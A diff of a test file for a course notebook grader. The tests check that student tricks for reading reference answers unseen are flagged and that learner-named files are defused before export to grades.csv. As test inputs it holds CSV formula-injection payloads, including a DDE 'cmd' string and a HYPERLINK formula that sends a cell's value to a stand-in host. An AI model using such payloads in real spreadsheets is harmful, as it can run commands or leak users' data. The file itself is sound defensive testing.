@@ -426,9 +426,11 @@ def test_calling_the_reference_scores_zero_with_the_reason(strong, name):
 
 def test_code_that_can_evade_the_watch_is_pointed_out(strong):
     assert strong["records"]["calls_reference"]["status"] == (
-        "read cell 4: setprofile can get answers from course_lib unseen")
+        "read cell 4: setprofile can get answers from course_lib unseen; "
+        "q3 forbidden: calls condition_number")
     assert strong["records"]["calls_reference_in_a_thread"]["status"] == (
-        "read cell 4: getattr, importlib, threading can get answers from course_lib unseen")
+        "read cell 4: getattr, importlib, threading can get answers from course_lib unseen; "
+        "q3 forbidden: calls course_lib.quadratic.condition_number")
     assert strong["records"]["honest"]["status"] == "ok"
 
 
@@ -450,7 +452,7 @@ def test_names_chosen_by_learners_are_not_formulas_in_the_csv(strong):
     import csv
 
     rows = list(csv.reader((strong["base"] / "out" / "grades.csv").open()))
-    cell = next(row[1] for row in rows if row[0].endswith("formula_as_exercise.ipynb"))
+    cell = next(row[4] for row in rows if row[3].endswith("formula_as_exercise.ipynb"))
     assert cell == "'=HYPERLINK(\"http://x.example/?\"&A1)"
     assert not any(value.startswith(("=", "+", "-", "@")) for row in rows for value in row)
 
@@ -534,8 +536,9 @@ def test_csv_feedback_rerun_and_redo(tmp_path, capsys):
     out = tmp_path / "out"
     assert main([str(folder), "--out", str(out), "--jobs", "2", "--timeout", "5"]) == 0
     rows = (out / "grades.csv").read_text().splitlines()
-    assert rows[0] == "file,exercise,score,max_score,status,isolation,q1,q2,q3"
-    assert sorted(row.split(",")[2:4] for row in rows[1:]) == [["1.0", "4.0"], ["4.0", "4.0"]]
+    assert rows[0] == ("student_id,name,email,file,exercise,score,max_score,status,isolation,"
+                       "q1,q2,q3,total,submitted_at,late_hours,seed")
+    assert sorted(row.split(",")[5:7] for row in rows[1:]) == [["1.0", "4.0"], ["4.0", "4.0"]]
     bob = json.loads((out / "feedback" / "bob.json").read_text())
     assert bob["questions"][0]["mistake"] == "you added η g: gradient descent moves against the gradient"
     assert "graded 2/2" in capsys.readouterr().err
@@ -644,15 +647,15 @@ def test_cell_statuses_from_the_child_are_bounded():
 def test_the_csv_quotes_and_defuses_whatever_a_learner_named():
     import csv
 
-    from course_grader.batch import grades_csv
+    from course_grader.gradebook import Row, plain_csv
 
     names = ["=cmd|' /C calc'!A0.ipynb", "+1.ipynb", "-2.ipynb", "@SUM(A1).ipynb",
              'we,ird "name"\nnewline.ipynb']
     records = [{"file": name, "exercise": "e", "score": 1.0, "max_score": 2.0, "status": "ok",
                 "isolation": "i", "questions": [{"id": "q1", "score": 1.0}]} for name in names]
-    rows = list(csv.reader(io.StringIO(grades_csv(records))))
-    assert [row[0] for row in rows[1:]] == ["'" + name for name in names[:4]] + [names[4]]
-    assert all(len(row) == 7 for row in rows)
+    rows = list(csv.reader(io.StringIO(plain_csv([Row("e", None, r) for r in records]))))
+    assert [row[3] for row in rows[1:]] == ["'" + name for name in names[:4]] + [names[4]]
+    assert all(len(row) == 14 for row in rows)
 
 
 def test_the_grader_cannot_be_traced_by_a_child_of_the_same_user(graded):
